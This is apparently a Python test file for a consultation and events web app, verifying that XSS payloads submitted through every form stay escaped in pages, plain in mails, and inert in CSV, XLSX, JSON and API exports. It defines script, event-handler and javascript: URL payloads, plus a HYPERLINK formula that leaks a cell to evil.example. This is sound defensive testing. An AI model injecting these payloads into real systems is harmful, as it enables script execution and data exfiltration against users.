"""Cross-site scripting: payloads in every text field of every form, as every role that can
submit it, stay inert: escaped in the page that answers (reflected) and in every page
that shows them later (stored), plain text in mails, and data (not formulas, not HTML) in
the CSV, XLSX and JSON exports and the API."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterable

from openpyxl import load_workbook

from consult.extensions import db
from consult.services.events import registration as registration_service
from tests.factories.events import adult
from tests.support.crawl import Form, every_url, submit_every_form
from tests.support.mail import Outbox
from tests.support.security_world import World

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
TEXTAREA = "</textarea><svg onload=alert(1)>"
COMBINED = f"x{SCRIPT}{ATTRIBUTE}'{TEXTAREA}"
JS_URL = "javascript:alert(1)"
MARKDOWN_LINK = "[click](javascript:alert(1)) <a href=\"javascript:alert(1)\">a</a>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

#: What must never reach a page unescaped.
LIVE = [
    re.compile(r"<script>alert", re.I),
    re.compile(r"<img src=x onerror", re.I),
    re.compile(r"<svg onload", re.I),
    re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I),
]

ROLES: list[str | None] = [None, "citizen_a", "organiser_a", "official", "admin"]


def live_markup(html: str) -> list[str]:
    return [pattern.pattern for pattern in LIVE if pattern.search(html)]


def store_everywhere(world: World, value: str, forms_by_role: Callable[[str | None], list[Form]],
                     ) -> int:
    """Submit `value` through every form as every role; assert each answer is inert."""
    submitted = 0
    for who in ROLES:
        for form, response in submit_every_form(world, who, value, forms_by_role(who)):
            assert response.status_code < 500, (who, form.action, response.status_code)
            if response.mimetype == "text/html":
                assert not live_markup(response.get_data(as_text=True)), (who, form.action)
            submitted += 1
    return submitted


def every_page(world: World) -> Iterable[tuple[str | None, str, object]]:
    for who in ROLES + ["organiser_b", "citizen_b"]:
        client = world.client(who)
        for own in ("a", "b"):
            for _endpoint, path in every_url(world, own=own):
                yield who, path, client.get(path)


def assert_pages_inert(world: World) -> int:
    """Every page as every role: HTML without live markup; other types not sniffable."""
    escaped = 0
    for who, path, response in every_page(world):
        assert response.status_code < 500, (who, path)  # type: ignore[attr-defined]
        body = response.get_data(as_text=True)  # type: ignore[attr-defined]
        if response.mimetype == "text/html":  # type: ignore[attr-defined]
            assert not live_markup(body), (who, path, live_markup(body))
            escaped += body.count("&lt;script&gt;alert(1)")
        else:
            assert response.headers["X-Content-Type-Options"] == "nosniff", path  # type: ignore[attr-defined]
            assert "html" not in (response.mimetype or ""), path  # type: ignore[attr-defined]
    return escaped


def test_stored_and_reflected_payloads_are_inert_everywhere(world: World, forms_by_role) -> None:
    assert store_everywhere(world, COMBINED, forms_by_role) > 40
    escaped = assert_pages_inert(world)
    assert escaped > 20  # the payloads were stored and shown (escaped), not just refused

    # They reached the pages that matter: a consultation, an event, moderation, the account.
    official = world.client("official").get(
        f"/officials/consultations/{world.consultation.slug}/moderation").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)" in official
    event = world.client(None).get(f"/events/{world.tasting.id}").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)" in event

    for value in (JS_URL, MARKDOWN_LINK):
        store_everywhere(world, value, forms_by_role)
        assert_pages_inert(world)


def test_mails_are_plain_text(world: World, forms_by_role) -> None:
    store_everywhere(world, COMBINED, forms_by_role)
    mails = Outbox(world.app).mails
    assert mails
    for mail in mails:
        kinds = {part.get_content_type() for part in mail.walk()}
        assert "text/html" not in kinds, mail["Subject"]


def _csv_cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _exports(world: World) -> dict[str, tuple[str, bytes]]:
    """path -> (mimetype, body) of every file the staff can download."""
    slug = world.consultation.slug
    found = {}
    for who, paths in {
        "official": [f"/officials/consultations/{slug}/export.{fmt}{public}"
                     for fmt in ("csv", "json", "xlsx") for public in ("", "?public=1")]
        + [f"/officials/consultations/{slug}/analysis.csv",
           f"/officials/consultations/{slug}/analysis.json"],
        "organiser_a": [f"/organise/events/{world.tasting.id}/registrations.csv"],
        None: [f"/api/v1/consultations/{slug}", f"/api/v1/consultations/{slug}/responses",
               f"/api/v1/consultations/{slug}/results", "/api/v1/consultations",
               "/api/v1/events", f"/api/v1/events/{world.tasting.id}"],
    }.items():
        client = world.client(who)
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, path
            found[path] = (response.mimetype or "", response.get_data())
    return found


def test_exports_keep_payloads_as_data_and_guard_formulas(world: World, forms_by_role) -> None:
    with world.app.test_request_context("/"):
        registration_service.register(world.tasting, adult(
            "eve@example.nl", name=FORMULA, dietary_note=FORMULA, dietary_consent=True))
        db.session.commit()
    store_everywhere(world, FORMULA, forms_by_role)
    store_everywhere(world, COMBINED, forms_by_role)  # some fields keep the formula: new rows
    formulas_seen = 0
    exports = _exports(world)
    assert b"HYPERLINK" in exports[f"/organise/events/{world.tasting.id}/registrations.csv"][1]
    for path, (mimetype, body) in exports.items():
        assert "html" not in mimetype, path
        if mimetype == "text/csv":
            for cell in _csv_cells(body.decode("utf-8-sig")):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or \
                    re.fullmatch(r"-?\d+(\.\d+)?", cell), (path, cell)
                formulas_seen += "HYPERLINK" in cell
        elif "spreadsheetml" in mimetype:
            book = load_workbook(io.BytesIO(body))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                        formulas_seen += "HYPERLINK" in str(cell.value or "")
        else:
            assert mimetype == "application/json", path
            text = json.dumps(json.loads(body))  # valid JSON; payloads only inside strings
            formulas_seen += text.count("HYPERLINK")
    assert formulas_seen > 3  # the formula was stored and exported (as guarded text)
